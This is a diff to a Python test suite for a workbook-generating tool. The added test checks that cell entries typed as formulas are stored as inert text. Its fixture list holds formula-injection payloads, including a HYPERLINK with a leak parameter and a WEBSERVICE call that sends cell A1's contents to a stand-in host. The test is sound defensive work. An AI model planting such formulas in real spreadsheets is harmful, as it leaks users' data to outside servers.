@@ -4,7 +4,9 @@ clean and builds into the same chapters."""
 from __future__ import annotations
 
 import io
+import re
 import shutil
+import zipfile
 from dataclasses import replace
 from pathlib import Path
 
@@ -18,6 +20,8 @@ from competency_maps.report.assemble import assemble
 from competency_maps.xlsx.blank import make_blank_workbook
 from competency_maps.cli import main
 from competency_maps.console import Console
+from competency_maps.model.cluster import Note
+from competency_maps.model.richtext import Block, BlockKind, Span
 from competency_maps.report.content import chapter
 from competency_maps.inputs.gather import gather
 from competency_maps.xlsx.prefill import workbook_bytes
@@ -167,3 +171,39 @@ def test_the_deliverable_config_gives_the_dropdowns(tmp_path, export_file):
     themes = config.load(INPUTS).theme_names
     header = [c.value for c in load_workbook(out)["SWOT"][1]]
     assert header[-1] == "Theme" and themes  # the deliverable's synthesis themes, as in a blank one
+
+
+FORMULAS = ('=HYPERLINK("http://example.org/?leak=1","click")', '=WEBSERVICE("http://example.org/"&A1)',
+            "#N/A", "=1+1")
+
+
+def test_an_entry_typed_as_a_formula_is_written_back_as_text(tmp_path, sample_cluster, schema, comparable):
+    """new-workbook --from: every cell the partner typed as "=…" is a string cell, and `check` on the
+    pre-filled file finds no formula."""
+    swot = [replace(e, text=(Span(FORMULAS[k % len(FORMULAS)]),), group=FORMULAS[0] if k == 0 else e.group)
+            for k, e in enumerate(sample_cluster.swot)]
+    tows = [replace(sample_cluster.tows[0], text=(Span(FORMULAS[1]),)), *sample_cluster.tows[1:]]
+    step1 = [replace(sample_cluster.step1[1], text=(Span(FORMULAS[0]),)), *sample_cluster.step1[2:]]
+    notes = [Note(FORMULAS[3], (Block(BlockKind.PARAGRAPH, (Span(FORMULAS[1]),)),), "de")]
+    hostile = replace(sample_cluster, profile=replace(sample_cluster.profile, full_name=FORMULAS[1],
+                                                      about=(Span(FORMULAS[0]),)),
+                      swot=swot, tows=tows, step1=step1, step2_notes=notes)
+    source = tmp_path / "last-year.json"
+    source.write_bytes(dataset.dumps(dataset.to_data([hostile])))
+    out = tmp_path / "test.xlsx"
+    code, printed = run("--inputs", INPUTS, "new-workbook", "Test Cluster", "--from", source, "-o", out)
+    assert code == 0, printed
+    wb = load_workbook(out)
+    typed_cells = [c for ws in wb.worksheets if ws.title not in ("Summary", "Read me")
+                   for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value in FORMULAS]
+    assert len(typed_cells) >= len(swot) + 5
+    assert {c.data_type for c in typed_cells} == {"s"}, [(c.parent.title, c.coordinate, c.data_type)
+                                                        for c in typed_cells if c.data_type != "s"]
+    with zipfile.ZipFile(out) as z:  # the only formulas are the workbook's own (Summary's counts)
+        formulas = [f for n in z.namelist() if n.startswith("xl/worksheets/")
+                    for f in re.findall(r"<f>(.*?)</f>", z.read(n).decode())]
+    assert formulas and not [f for f in formulas if "HYPERLINK" in f or "WEBSERVICE" in f or f == "1+1"]
+    res = read_workbook(out, schema)
+    assert res.errors == [] and comparable(res.cluster)[2] == comparable(hostile)[2]
+    code, printed = run("--inputs", INPUTS, "check", out)
+    assert code == 0, printed
